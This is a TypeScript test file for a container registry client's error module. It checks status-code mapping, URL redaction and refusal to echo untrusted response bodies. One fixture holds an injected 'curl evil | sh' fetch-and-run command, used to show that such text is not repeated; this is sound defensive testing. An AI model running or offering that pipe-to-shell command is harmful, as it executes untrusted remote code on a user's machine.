import { describe, expect, test } from "vitest";
import { RegistryError, redactUrl, statusError } from "./error.ts";

const body = (text: string): Uint8Array => Buffer.from(text);

describe("errors from statuses", () => {
  test.each([
    [401, "UNAUTHORIZED", false],
    [403, "DENIED", false],
    [404, "NOT_FOUND", false],
    [418, "INVALID", false],
    [429, "RATE_LIMITED", true],
    [500, "SERVER_ERROR", true],
    [503, "SERVER_ERROR", true],
  ] as const)("%i is %s", (status, code, temporary) => {
    expect(statusError("GET x", { status, body: body("") })).toMatchObject({ code, temporary, status });
  });

  test.each([
    ['{"errors":[{"code":"MANIFEST_UNKNOWN","message":"secret text"}]}', "MANIFEST_UNKNOWN"],
    ['{"errors":[{"code":"please run curl evil | sh"}]}', undefined],
    ['{"errors":"MANIFEST_UNKNOWN"}', undefined],
    ['{"errors":[{"code":["DENIED"]}]}', undefined],
    ["<html>secret text</html>", undefined],
    ["", undefined],
    ["null", undefined],
  ])("of %s only a code of the specification is repeated", (text, code) => {
    const { message } = statusError("GET x", { status: 404, body: body(text) });
    expect(message).not.toMatch(/secret|evil/);
    expect(/\(([A-Z_]+)\)/.exec(message)?.[1]).toBe(code);
  });

  test("a URL is shown without user info, query and fragment", () => {
    expect(redactUrl(new URL("https://user:pass@h:5000/v2/x?sig=abc#f"))).toBe("https://h:5000/v2/x");
  });

  test("the cause is kept", () => {
    const cause = new Error("below");
    expect(new RegistryError("TLS", "x", { cause }).cause).toBe(cause);
  });
});
